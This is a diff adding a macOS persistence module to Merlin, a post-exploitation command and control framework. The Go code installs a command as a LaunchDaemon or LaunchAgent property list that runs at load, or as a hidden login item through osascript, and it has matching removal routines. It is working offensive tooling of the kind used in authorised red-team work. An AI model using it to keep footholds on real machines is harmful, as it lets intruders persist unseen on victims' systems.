@@ -0,0 +1,153 @@
+//go:build darwin
+// +build darwin
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package persistence
+
+import (
+	// Standard
+	"encoding/xml"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+)
+
+// Preferred is the order persistence methods are automatically selected in
+var Preferred = []string{"launchdaemon", "launchagent", "loginitem", "cron"}
+
+func init() {
+	register("launchagent", launchd{daemon: false})
+	register("launchdaemon", launchd{daemon: true})
+	register("loginitem", loginItem{})
+}
+
+// launchd persists with a property list that launchd runs when the host starts (LaunchDaemon) or a user logs in (LaunchAgent)
+type launchd struct {
+	daemon bool
+}
+
+// Description explains where the method persists and when the command runs
+func (l launchd) Description() string {
+	if l.daemon {
+		return "/Library/LaunchDaemons property list, runs as root when the host starts"
+	}
+	return "LaunchAgents property list, runs when a user logs in; /Library/LaunchAgents for all users as root, ~/Library/LaunchAgents otherwise"
+}
+
+// Privileged is true if the method requires root
+func (l launchd) Privileged() bool {
+	return l.daemon
+}
+
+// Install writes the property list with the name as its label
+func (l launchd) Install(name, command string) (Record, error) {
+	dir := "/Library/LaunchAgents"
+	if l.daemon {
+		dir = "/Library/LaunchDaemons"
+	} else if !Root() {
+		home, err := os.UserHomeDir()
+		if err != nil {
+			return Record{}, err
+		}
+		dir = filepath.Join(home, "Library", "LaunchAgents")
+	}
+	path := filepath.Join(dir, name+".plist")
+	if _, err := os.Stat(path); err == nil {
+		return Record{}, fmt.Errorf("%s already exists", path)
+	}
+
+	var args strings.Builder
+	for _, arg := range strings.Fields(command) {
+		args.WriteString("\t\t<string>")
+		if err := xml.EscapeText(&args, []byte(arg)); err != nil {
+			return Record{}, err
+		}
+		args.WriteString("</string>\n")
+	}
+	var label strings.Builder
+	if err := xml.EscapeText(&label, []byte(name)); err != nil {
+		return Record{}, err
+	}
+	plist := fmt.Sprintf(`<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
+<plist version="1.0">
+<dict>
+	<key>Label</key>
+	<string>%s</string>
+	<key>ProgramArguments</key>
+	<array>
+%s	</array>
+	<key>RunAtLoad</key>
+	<true/>
+</dict>
+</plist>
+`, label.String(), args.String())
+
+	err := os.MkdirAll(dir, 0755)
+	if err != nil {
+		return Record{}, err
+	}
+	// #nosec G306 -- launchd requires the property list to be readable
+	err = os.WriteFile(path, []byte(plist), 0644)
+	return Record{Artifact: path}, err
+}
+
+// Remove deletes the property list
+func (l launchd) Remove(record Record) error {
+	return os.Remove(record.Artifact)
+}
+
+// loginItem persists as a hidden login item for the current user added through System Events
+type loginItem struct{}
+
+// Description explains where the method persists and when the command runs
+func (loginItem) Description() string {
+	return "hidden login item for the current user, runs the executable when the user logs in"
+}
+
+// Privileged is true if the method requires root
+func (loginItem) Privileged() bool {
+	return false
+}
+
+// Install adds the login item, login items run an executable or application without arguments
+func (loginItem) Install(name, command string) (Record, error) {
+	fields := strings.Fields(command)
+	if len(fields) != 1 {
+		return Record{}, fmt.Errorf("login items can not run a command with arguments")
+	}
+	script := fmt.Sprintf("tell application \"System Events\" to make login item at end with properties {path:%q, hidden:true, name:%q}", fields[0], name)
+	out, err := exec.Command("/usr/bin/osascript", "-e", script).CombinedOutput() // #nosec G204
+	if err != nil {
+		return Record{}, fmt.Errorf("%s %s", err, out)
+	}
+	return Record{Artifact: name}, nil
+}
+
+// Remove deletes the login item
+func (loginItem) Remove(record Record) error {
+	script := fmt.Sprintf("tell application \"System Events\" to delete login item %q", record.Artifact)
+	out, err := exec.Command("/usr/bin/osascript", "-e", script).CombinedOutput() // #nosec G204
+	if err != nil {
+		return fmt.Errorf("%s %s", err, out)
+	}
+	return nil
+}